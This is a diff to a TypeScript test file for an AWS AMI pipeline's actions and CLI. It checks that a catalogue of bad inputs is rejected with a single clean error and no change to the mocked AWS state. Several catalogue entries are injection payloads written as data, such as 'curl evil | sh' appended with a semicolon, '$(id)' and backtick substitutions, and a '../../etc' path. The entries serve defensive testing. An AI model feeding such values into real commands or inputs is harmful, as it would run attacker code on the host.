@@ -8,7 +8,7 @@ import { join } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { CreateStackCommand, CloudFormationClient } from '@aws-sdk/client-cloudformation';
 import { PutParameterCommand, SSMClient } from '@aws-sdk/client-ssm';
-import { runAction, snapshotAws, startMoto, type AwsSnapshot, type Moto } from '@img-mgr/testbed';
+import { runBundledAction, snapshotAws, startMoto, type AwsSnapshot, type Moto } from '@img-mgr/testbed';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { runCli } from './helpers.js';
 
@@ -52,7 +52,7 @@ const bake = (why: string, names: string, inputs: Record<string, string>): BadIn
 
 export const CATALOGUE: BadInput[] = [
   publish('no AMI at all', 'ami-id', {}),
-  publish('an empty AMI id', 'ami-id', { 'ami-id': ' ' , amis: '' }),
+  publish('an empty AMI id', 'ami-id', { 'ami-id': ' ', amis: '' }),
   publish('a garbage AMI id', 'ami-id', { 'ami-id': 'not-an-ami' }),
   publish('an AMI id that is too short', 'ami-id', { 'ami-id': 'ami-123' }),
   publish('a snapshot id instead of an AMI id', 'ami-id', { 'ami-id': 'snap-0123456789abcdef0' }),
@@ -62,8 +62,14 @@ export const CATALOGUE: BadInput[] = [
   publish('amis with a bad id', 'amis', { amis: '{"us-east-1":"ami-zzz"}' }),
   publish('amis with an unknown region', 'amis', { amis: `{"moon-base-1":"${GOOD_AMI}"}` }),
   publish('a parameter name with spaces', 'parameter-name', { 'ami-id': GOOD_AMI, 'parameter-name': '/golden ami' }),
-  publish('a parameter name with shell characters', 'parameter-name', { 'ami-id': GOOD_AMI, 'parameter-name': '/x/$(id)' }),
-  publish('a parameter name under the reserved aws prefix', 'parameter-name', { 'ami-id': GOOD_AMI, 'parameter-name': '/aws/golden' }),
+  publish('a parameter name with shell characters', 'parameter-name', {
+    'ami-id': GOOD_AMI,
+    'parameter-name': '/x/$(id)',
+  }),
+  publish('a parameter name under the reserved aws prefix', 'parameter-name', {
+    'ami-id': GOOD_AMI,
+    'parameter-name': '/aws/golden',
+  }),
   publish('an unknown region', 'region', { 'ami-id': GOOD_AMI, region: 'mars-east-1' }),
   publish('a label starting with a digit', 'labels', { 'ami-id': GOOD_AMI, labels: '1abc' }),
   publish('a label starting with aws', 'labels', { 'ami-id': GOOD_AMI, labels: 'awsome' }),
@@ -84,31 +90,66 @@ export const CATALOGUE: BadInput[] = [
   deploy('a non-numeric CloudFormation timeout', 'timeout-in-minutes', { 'timeout-in-minutes': 'soon' }),
   deploy('an unknown capability', 'capabilities', { capabilities: 'CAPABILITY_EVERYTHING' }),
   deploy('a truncated region', 'region', { region: 'us-east' }),
-  deploy('a termination-protection that is not a boolean', 'termination-protection', { 'termination-protection': 'maybe' }),
+  deploy('a termination-protection that is not a boolean', 'termination-protection', {
+    'termination-protection': 'maybe',
+  }),
   bake('a template that does not exist', 'template', { template: 'no-such-template.pkr.hcl' }),
-  bake('a variable without a value', 'variables', { template: join(fixtures, 'one-parameter.yaml'), variables: 'flask_repo' }),
+  bake('a variable without a value', 'variables', {
+    template: join(fixtures, 'one-parameter.yaml'),
+    variables: 'flask_repo',
+  }),
   // bake-ami hands variables to Packer as arguments (no shell) and the template validates flask_repo
   // (packer/variables.pkr.hcl); the CLI's --flask-repo entries below check the metacharacters.
-  bake('a variable that bake-ami sets itself', 'variables', { template: join(fixtures, 'one-parameter.yaml'), variables: 'run_id=mine' }),
+  bake('a variable that bake-ami sets itself', 'variables', {
+    template: join(fixtures, 'one-parameter.yaml'),
+    variables: 'run_id=mine',
+  }),
   bake('a packer-version with a shell payload', 'packer-version', { 'packer-version': '1.11.2; curl evil | sh' }),
   bake('a negative build timeout', 'timeout', { timeout: '-5m' }),
   bake('a force that is not a boolean', 'force', { force: 'perhaps' }),
   bake('an unknown region', 'region', { region: 'xx-1' }),
-  bake('a var file that does not exist', 'var-files', { template: join(fixtures, 'one-parameter.yaml'), 'var-files': 'no-such.pkrvars.hcl' }),
+  bake('a var file that does not exist', 'var-files', {
+    template: join(fixtures, 'one-parameter.yaml'),
+    'var-files': 'no-such.pkrvars.hcl',
+  }),
 ];
 
 export const CLI_CATALOGUE: BadCommandLine[] = [
   { why: 'an unknown region', names: '--region', args: ['run', '--region', 'mars-east-1'] },
   { why: 'a truncated region', names: '--region', args: ['bake', '--region', 'us-east'] },
-  { why: 'a flask-repo with a command separator and a pipe', names: '--flask-repo', args: ['run', '--flask-repo', 'https://github.com/me/app.git;curl evil|sh'] },
-  { why: 'a flask-repo with a command substitution', names: '--flask-repo', args: ['bake', '--flask-repo', 'https://github.com/$(id)/app.git'] },
-  { why: 'a flask-repo with backticks', names: '--flask-repo', args: ['run', '--flask-repo', 'https://github.com/`id`/app.git'] },
-  { why: 'a flask-repo that is not https', names: '--flask-repo', args: ['run', '--flask-repo', 'git@github.com:me/app.git'] },
+  {
+    why: 'a flask-repo with a command separator and a pipe',
+    names: '--flask-repo',
+    args: ['run', '--flask-repo', 'https://github.com/me/app.git;curl evil|sh'],
+  },
+  {
+    why: 'a flask-repo with a command substitution',
+    names: '--flask-repo',
+    args: ['bake', '--flask-repo', 'https://github.com/$(id)/app.git'],
+  },
+  {
+    why: 'a flask-repo with backticks',
+    names: '--flask-repo',
+    args: ['run', '--flask-repo', 'https://github.com/`id`/app.git'],
+  },
+  {
+    why: 'a flask-repo that is not https',
+    names: '--flask-repo',
+    args: ['run', '--flask-repo', 'git@github.com:me/app.git'],
+  },
   { why: 'a negative timeout', names: '--timeout', args: ['run', '--timeout', '-5m'] },
   { why: 'a zero timeout', names: '--timeout', args: ['deploy', '--timeout', '0'] },
   { why: 'a flask-ref that walks up', names: '--flask-ref', args: ['run', '--flask-ref', '../../etc'] },
-  { why: 'a parameter name under /aws', names: '--parameter-name', args: ['publish', '--parameter-name', '/aws/golden', '--ami-id', GOOD_AMI] },
-  { why: 'an AMI id of another resource type', names: '--ami-id', args: ['publish', '--ami-id', 'snap-0123456789abcdef0'] },
+  {
+    why: 'a parameter name under /aws',
+    names: '--parameter-name',
+    args: ['publish', '--parameter-name', '/aws/golden', '--ami-id', GOOD_AMI],
+  },
+  {
+    why: 'an AMI id of another resource type',
+    names: '--ami-id',
+    args: ['publish', '--ami-id', 'snap-0123456789abcdef0'],
+  },
   { why: 'a stack name with an underscore', names: '--app-stack', args: ['deploy', '--app-stack', 'img_mgr'] },
 ];
 
@@ -125,7 +166,8 @@ describe('bad-input catalogue', () => {
     await new CloudFormationClient(moto.clientConfig).send(
       new CreateStackCommand({
         StackName: 'reliability',
-        TemplateBody: '{"Resources":{"P":{"Type":"AWS::SSM::Parameter","Properties":{"Name":"/reliability/existing","Type":"String","Value":"x"}}}}',
+        TemplateBody:
+          '{"Resources":{"P":{"Type":"AWS::SSM::Parameter","Properties":{"Name":"/reliability/existing","Type":"String","Value":"x"}}}}',
       }),
     );
     before = await snapshotAws(moto.clientConfig);
@@ -141,7 +183,7 @@ describe('bad-input catalogue', () => {
   });
 
   it.each(CATALOGUE.map((entry) => [`${entry.action}: ${entry.why}`, entry] as const))('%s', async (_title, entry) => {
-    const run = await runAction(entry.action, { inputs: entry.inputs, env: moto.env, timeoutMs: 30_000 });
+    const run = await runBundledAction(entry.action, { inputs: entry.inputs, env: moto.env, timeoutMs: 30_000 });
     expect(run.exitCode, run.log).not.toBe(0);
     expect(run.errors, run.log).toHaveLength(1);
     expect(run.errors[0]).toContain(`'${entry.names}'`);
@@ -149,14 +191,17 @@ describe('bad-input catalogue', () => {
     expect(await snapshotAws(moto.clientConfig)).toEqual(before);
   });
 
-  it.each(CLI_CATALOGUE.map((entry) => [`img-mgr-pipeline: ${entry.why}`, entry] as const))('%s', async (_title, entry) => {
-    const run = await runCli([...entry.args, '--endpoint', moto.endpoint], { timeoutMs: 30_000 });
-    expect(run.exitCode, run.stderr).not.toBe(0);
-    expect(run.stdout).toBe('');
-    const lines = run.stderr.split('\n').filter((line) => line.trim() !== '');
-    expect(lines, run.stderr).toHaveLength(1);
-    expect(lines[0]).toMatch(new RegExp(`^img-mgr-pipeline: error: ${entry.names} `));
-    expect(run.stderr, 'no stack trace').not.toMatch(/^\s+at .+:\d+:\d+\)?$/m);
-    expect(await snapshotAws(moto.clientConfig)).toEqual(before);
-  });
+  it.each(CLI_CATALOGUE.map((entry) => [`img-mgr-pipeline: ${entry.why}`, entry] as const))(
+    '%s',
+    async (_title, entry) => {
+      const run = await runCli([...entry.args, '--endpoint', moto.endpoint], { timeoutMs: 30_000 });
+      expect(run.exitCode, run.stderr).not.toBe(0);
+      expect(run.stdout).toBe('');
+      const lines = run.stderr.split('\n').filter((line) => line.trim() !== '');
+      expect(lines, run.stderr).toHaveLength(1);
+      expect(lines[0]).toMatch(new RegExp(`^img-mgr-pipeline: error: ${entry.names} `));
+      expect(run.stderr, 'no stack trace').not.toMatch(/^\s+at .+:\d+:\d+\)?$/m);
+      expect(await snapshotAws(moto.clientConfig)).toEqual(before);
+    },
+  );
 });
